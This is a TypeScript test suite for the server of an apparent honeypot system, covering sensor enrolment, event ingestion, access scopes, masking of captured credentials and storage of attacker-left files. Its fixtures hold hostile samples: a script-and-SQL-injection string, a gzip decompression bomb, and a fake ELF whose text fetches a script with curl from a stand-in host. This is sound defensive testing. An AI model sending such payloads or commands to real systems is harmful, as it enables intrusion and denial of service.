/** Sensors: how they come in, what they deliver, what is refused, and who sees what of it. */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import type { Scope } from '../../src/api/access.ts';
import type { Ingested } from '../../src/api/events.ts';
import type { DecoyEvent } from '../../src/model/event.ts';
import { minutesFromNow, sampleBoot } from '../fixtures/events.ts';
import { assertProblem } from '../fixtures/problem.ts';
import { type Answer, type Asked, startServer, type TestServer } from '../fixtures/server.ts';

let server: TestServer;
before(async () => {
  server = await startServer({ empty: true });
});
after(() => server.close());

const admin = { role: 'admin' } as const;
let addresses = 0;

function ask(method: string, url: string, asked: Asked = {}): Promise<Answer> {
  return server.ask(method, url, { from: `203.0.113.${++addresses % 250}`, ...asked });
}

/** Enrolled by an admin's invitation. */
async function enrol(name: string): Promise<{ sensor: number; token: string }> {
  const { json: invitation } = await ask('POST', '/v1/sensors/enrolments', { as: admin, body: { name } });
  const body = {
    secret: invitation.secret,
    report: { version: '0.2.0', decoys: [{ name: 'redis', state: 'up' }] },
  };
  const { status, json, text } = await ask('POST', '/v1/sensors/enrol', { body });
  assert.equal(status, 201, text);
  return json;
}

function linesOf(events: readonly object[]): string {
  return events.map((one) => `${JSON.stringify(one)}\n`).join('');
}

type Delivered = Asked & { readonly token?: string };

function deliver(body: string | Buffer, { token, headers, ...asked }: Delivered = {}): Promise<Answer> {
  return ask('POST', '/v1/ingest', {
    ...(token === undefined && { as: { scope: 'ingest' } as const }),
    ...asked,
    body,
    headers: {
      'content-type': 'application/x-ndjson',
      ...(token !== undefined && { authorization: `Bearer ${token}` }),
      ...headers,
    },
  });
}

async function delivered(body: string | Buffer, asked: Delivered = {}): Promise<Ingested> {
  const { status, json, text } = await deliver(body, asked);
  assert.equal(status, 200, text);
  return json;
}

async function stored(sensor: string): Promise<DecoyEvent[]> {
  const { json } = await ask('GET', `/v1/events?sensor=${sensor}&limit=200`, { as: { role: 'analyst' } });
  return json.items;
}

describe('a delivery', () => {
  it('is taken plain and packed, and answers what became of each line', async () => {
    const { next, boot } = sampleBoot('plain');
    const some = [next(), next(), next()];
    const first = await delivered(linesOf(some.slice(0, 2)));
    assert.deepEqual(first, { accepted: 2, duplicates: 0, rejected: [], ack: [{ boot, seq: 2 }] });
    const packed = gzipSync(linesOf(some));
    const second = await delivered(packed, { headers: { 'content-encoding': 'GZIP' } });
    assert.deepEqual(second, { accepted: 1, duplicates: 2, rejected: [], ack: [{ boot, seq: 3 }] });
    assert.equal((await stored('plain')).length, 3);
    // The last line may end without a feed, and a client may name a character set.
    const bare = await delivered(JSON.stringify(next()), {
      headers: { 'content-type': 'application/x-ndjson; charset=utf-8' },
    });
    assert.equal(bare.accepted, 1);
  });

  it('with bad lines keeps the good ones, and says what is wrong with the others', async () => {
    const { next, boot } = sampleBoot('mixed');
    const some = [next(), next(), next()];
    const body = `${JSON.stringify(some[0])}\n{"v":1\n${JSON.stringify({ ...some[1], severity: 'x' })}\n\n${JSON.stringify(some[2])}\n`;
    assert.deepEqual(await delivered(body), {
      accepted: 2,
      duplicates: 0,
      rejected: [
        { line: 2, reason: 'no JSON' },
        { line: 3, seq: 2, reason: 'severity is none' },
        { line: 4, reason: 'no JSON' },
      ],
      ack: [{ boot, seq: 3 }],
    });
  });

  it('keeps what names its sensor beside lines whose sensor cannot have such a name', async () => {
    const { next, boot } = sampleBoot('named');
    const bad = sampleBoot('no/name at all');
    const broken = { ...bad.next(), severity: 'x' };
    assert.deepEqual(await delivered(linesOf([next(), bad.next(), broken, next()])), {
      accepted: 2,
      duplicates: 0,
      rejected: [
        { line: 2, reason: 'sensor is no name' },
        { line: 3, seq: 1, reason: 'severity is none' },
      ],
      ack: [{ boot, seq: 2 }],
    });
    const none = assertProblem(await deliver(linesOf([bad.next()])), 400);
    assert.deepEqual([none.code, none.detail], ['corrupt', 'No line of it is an event: sensor is no name.']);
  });

  it('with a hole is acknowledged up to the hole', async () => {
    const { next, boot } = sampleBoot('hole');
    const [one, two, three] = [next(), next(), next()];
    assert.deepEqual((await delivered(linesOf([one, three]))).ack, [{ boot, seq: 1 }]);
    assert.deepEqual((await delivered(linesOf([two]))).ack, [{ boot, seq: 3 }]);
  });

  it('shows in the figures for Prometheus, by sensor', async () => {
    const { token } = await enrol('measured');
    const { next } = sampleBoot('measured');
    const [one, , three] = [next(), next(), next()];
    await delivered(linesOf([one, three]), { token });
    const { text } = await ask('GET', '/metrics', { as: { scope: 'metrics' } });
    for (const line of [
      /^waterguard_sensors\{health="ok"\} \d+$/m,
      /^waterguard_sensor_events\{sensor="measured"\} 2$/m,
      /^waterguard_sensor_events_missing\{sensor="measured"\} 1$/m,
      /^waterguard_sensor_decoys\{sensor="measured",state="up"\} 1$/m,
      /^waterguard_sensor_heard_timestamp_seconds\{sensor="measured"\} \d{10}(?:\.\d+)?$/m,
    ])
      assert.match(text, line);
  });

  it('that is no lines of JSON, or not packed as it says, is refused', async () => {
    const gzip = { 'content-encoding': 'gzip' };
    const some = linesOf([sampleBoot('refused').next()]);
    for (const [body, headers] of [
      ['', {}],
      ['nonsense', {}],
      ['<html>', {}],
      [Buffer.from([0xff, 0xfe, 0, 1]), {}],
      [some, gzip],
      [gzipSync(some).subarray(0, 40), gzip],
      [Buffer.concat([gzipSync(some).subarray(0, -6), Buffer.alloc(6)]), gzip],
      [gzipSync(''), gzip],
      [gzipSync(some), {}],
    ] as const)
      assertProblem(await deliver(body, { headers }), 400, String(body).slice(0, 20));
    assert.deepEqual(await stored('refused'), []);
  });

  it('of another type or encoding is refused', async () => {
    const some = linesOf([sampleBoot('typed').next()]);
    for (const type of ['application/json', 'text/plain', 'application/octet-stream', 'application/ndjson']) {
      const { status } = await deliver(some, { headers: { 'content-type': type } });
      assert.ok(status === 415 || status === 400, `${type} ${status}`);
    }
    for (const encoding of ['br', 'deflate', 'zstd', 'gzip, gzip', 'x'])
      assertProblem(await deliver(some, { headers: { 'content-encoding': encoding } }), 415, encoding);
    assert.deepEqual(await stored('typed'), []);
  });

  it('of more than 500 lines or 1 MiB is refused, packed or not', async () => {
    const { next } = sampleBoot('large');
    const many = Array.from({ length: 501 }, () => next());
    assertProblem(await deliver(linesOf(many)), 413);
    assert.equal((await delivered(linesOf(many.slice(0, 500)))).accepted, 500);
    const long = linesOf(Array.from({ length: 20 }, () => next({ data: { text: 'x'.repeat(60_000) } })));
    assertProblem(await deliver(long), 413);
    assertProblem(await deliver(gzipSync(long), { headers: { 'content-encoding': 'gzip' } }), 413);
    assertProblem(await deliver('\n'.repeat(1024 * 1024)), 413);
  });

  it('that unpacks to far more than it is costs neither memory nor time', async () => {
    const bomb = gzipSync(Buffer.alloc(500 * 1024 * 1024), { level: 9 });
    assert.ok(bomb.length < 1024 * 1024);
    const before = process.memoryUsage().rss;
    const start = performance.now();
    for (let round = 0; round < 5; round++)
      assertProblem(await deliver(bomb, { headers: { 'content-encoding': 'gzip' } }), 413);
    assert.ok(performance.now() - start < 5000);
    assert.ok(process.memoryUsage().rss - before < 200 * 1024 * 1024);
  });

  it('of hostile text is kept and given back as it was', async () => {
    const { next } = sampleBoot('hostile');
    const text = '\u0000\u001b[31m\u2028<script>alert(1)</script>\' or 1=1 --{}"\\\ud83d';
    const event = next({
      norm: { commands: [text], urls: [text], images: [text] },
      fp: { ua: text },
      data: { text, password: text },
      severity: 'critical',
    });
    assert.equal((await delivered(linesOf([event]))).accepted, 1);
    const [found] = await stored('hostile');
    assert.deepEqual([found?.norm, found?.fp, found?.data], [event.norm, event.fp, event.data]);
  });
});

describe('who may deliver', () => {
  it('whoever has the scope, and nobody else', async () => {
    const body = linesOf([sampleBoot('scopes').next()]);
    for (const scope of ['read', 'hunt', 'triage', 'learn', 'metrics', 'admin'] satisfies Scope[])
      assertProblem(await deliver(body, { as: { scope } }), 403, scope);
    assertProblem(await deliver(body, { as: undefined }), 401);
    assert.deepEqual(await stored('scopes'), []);
    await delivered(body);
    assert.equal((await stored('scopes')).length, 1);
  });

  it('a sensor in its own name alone, whatever its events say', async () => {
    const { token } = await enrol('own-name');
    const { next } = sampleBoot('somebody-else');
    await delivered(linesOf([next(), next()]), { token });
    assert.equal((await stored('own-name')).length, 2);
    assert.deepEqual(await stored('somebody-else'), []);
  });

  it('a sensor delivers, and may do nothing else', async () => {
    const { sensor, token } = await enrol('narrow');
    const other = await enrol('other');
    const headers = { authorization: `Bearer ${token}` };
    for (const [method, url, body] of [
      ['POST', '/v1/reports', {}],
      ['GET', '/v1/events', undefined],
      ['GET', '/v1/sensors', undefined],
      ['POST', `/v1/sensors/${other.sensor}/heartbeat`, { version: '1', at: new Date().toISOString() }],
    ] as const)
      assertProblem(await ask(method, url, { headers, ...(body !== undefined && { body }) }), 403, url);
    const beat = await ask('POST', `/v1/sensors/${sensor}/heartbeat`, {
      headers,
      body: { version: '0.2.1', at: minutesFromNow(-8), decoys: [{ name: 'redis', state: 'down' }] },
    });
    assert.equal(beat.status, 200);
    assert.ok(Math.abs(beat.json.clockSkewMs - 8 * 60_000) < 5000);
    const { json } = await ask('GET', '/v1/sensors', { as: { role: 'viewer' } });
    const shown = json.items.find((one: { name: string }) => one.name === 'narrow');
    assert.equal(shown.health, 'faulty');
    assert.deepEqual(shown.problems, ['down: redis', 'clock off by 8 minutes']);
  });

  it('nobody once the sensor is revoked, not even by another token', async () => {
    const { sensor, token } = await enrol('gone');
    const { next } = sampleBoot('gone');
    await delivered(linesOf([next()]), { token });
    assert.equal((await ask('DELETE', `/v1/sensors/${sensor}`, { as: admin })).status, 204);
    assertProblem(await deliver(linesOf([next()]), { token }), 401);
    assert.equal(assertProblem(await deliver(linesOf([next()])), 403).code, 'no-sensor');
    assertProblem(await ask('DELETE', `/v1/sensors/${sensor}`, { as: admin }), 404);
    assert.equal((await stored('gone')).length, 1);
  });

  it('an invitation lets in one, once, and guessing is slow', async () => {
    const { json } = await ask('POST', '/v1/sensors/enrolments', { as: admin, body: { name: 'invited' } });
    const report = { version: '0.2.0' };
    const body = { secret: json.secret, report };
    assert.equal((await ask('POST', '/v1/sensors/enrol', { body })).status, 201);
    assert.equal(
      assertProblem(await ask('POST', '/v1/sensors/enrol', { body }), 401).code,
      'enrolment-failed',
    );
    assertProblem(
      await ask('POST', '/v1/sensors/enrolments', { as: { role: 'analyst' }, body: { name: 'x' } }),
      403,
    );
    const statuses: number[] = [];
    for (let round = 0; round < 12; round++) {
      const guess = { secret: `wge_${String(round).repeat(43)}`.slice(0, 47), report };
      statuses.push((await ask('POST', '/v1/sensors/enrol', { body: guess, from: '192.0.2.99' })).status);
    }
    assert.deepEqual(statuses.slice(10), [429, 429]);
  });
});

describe('what is seen', () => {
  it('by a viewer is everything but secrets and bytes; an analyst sees these too', async () => {
    const { next } = sampleBoot('seen');
    await delivered(
      linesOf([
        next({
          from: '198.51.100.99',
          type: 'ssh.auth',
          data: { user: 'root', password: 'sesame-1234' },
          payload: 'sesame-1234',
        }),
        next({
          from: '198.51.100.99',
          norm: { commands: ['echo sesame-1234'] },
          data: { password: 'sesame-1234' },
        }),
      ]),
    );
    const { json } = await ask('GET', '/v1/sessions?source=198.51.100.99', { as: { role: 'viewer' } });
    const [{ id }] = json.items;
    const pages = [
      `/v1/sessions/${id}`,
      `/v1/sessions/${id}/events`,
      '/v1/events?source=198.51.100.99',
      '/v1/honeypots/overview',
    ];
    for (const page of pages) {
      const open = await ask('GET', page, { as: { role: 'analyst' } });
      assert.match(open.text, /sesame-1234/, page);
      const masked = await ask('GET', page, { as: { role: 'viewer' } });
      assert.equal(masked.status, 200, page);
      assert.doesNotMatch(masked.text, /sesame|c2VzYW1lLTEyMzQ/, page);
      assert.match(masked.text, /root|192\.0\.2|198\.51/, page);
    }
  });

  it('is looked up by whole values, and what is not there is not found', async () => {
    const { next } = sampleBoot('values');
    await delivered(linesOf([next({ norm: { hosts: ['values.example.invalid'] } })]));
    const as = { role: 'viewer' } as const;
    const { json } = await ask('GET', '/v1/events/values?type=host&value=values.example.invalid', { as });
    assert.deepEqual([json.sessions, json.sources], [1, 1]);
    assertProblem(await ask('GET', '/v1/events/values?type=host&value=example.invalid', { as }), 404);
    assertProblem(await ask('GET', '/v1/events/values?type=credential&value=x', { as }), 400);
    assertProblem(await ask('GET', '/v1/sessions/2147483000', { as }), 404);
    for (const source of ['x', '198.51.100.0/33', '198.51.100.0/', '::1/129', 'fe80::1%eth0', "' or 1=1"])
      assertProblem(
        await ask('GET', `/v1/sessions?source=${encodeURIComponent(source)}`, { as }),
        400,
        source,
      );
  });
});

describe('a file that a visitor left', () => {
  const body = Buffer.from('\x7fELF\0\0curl http://example.invalid/x.sh\0');
  const sha256 = createHash('sha256').update(body).digest('hex');
  const octets = { 'content-type': 'application/octet-stream' };

  it('is taken by its digest, and shown as what cannot be run', async () => {
    const put = await ask('PUT', `/v1/artefacts/${sha256}`, {
      as: { scope: 'ingest' },
      body,
      headers: octets,
    });
    assert.deepEqual([put.status, put.json], [201, { sha256, size: body.length }]);
    const shown = await ask('GET', `/v1/artefacts/${sha256}`, { as: { role: 'analyst' } });
    assert.match(String(shown.headers['content-type']), /^application\/json/);
    assert.deepEqual(shown.json.strings, ['curl http://example.invalid/x.sh']);
    assert.equal('content' in shown.json, false);
    const whole = await ask('GET', `/v1/artefacts/${sha256}?content=true`, { as: { role: 'analyst' } });
    assert.equal(whole.json.content, body.toString('base64'));
    assertProblem(await ask('GET', `/v1/artefacts/${sha256}`, { as: { role: 'viewer' } }), 403);
  });

  it('under another digest, of another type, or too large is refused', async () => {
    const as = { scope: 'ingest' } as const;
    const other = '0'.repeat(64);
    assert.equal(
      assertProblem(await ask('PUT', `/v1/artefacts/${other}`, { as, body, headers: octets }), 422).code,
      'digest-mismatch',
    );
    assertProblem(
      await ask('PUT', `/v1/artefacts/${sha256.toUpperCase()}`, { as, body, headers: octets }),
      400,
    );
    assertProblem(await ask('PUT', `/v1/artefacts/${sha256}`, { as, body: '{}' }), 415);
    const large = Buffer.alloc(8 * 1024 * 1024 + 1);
    const digest = createHash('sha256').update(large).digest('hex');
    assertProblem(await ask('PUT', `/v1/artefacts/${digest}`, { as, body: large, headers: octets }), 413);
    assertProblem(await ask('GET', `/v1/artefacts/${digest}`, { as: { role: 'analyst' } }), 404);
  });
});
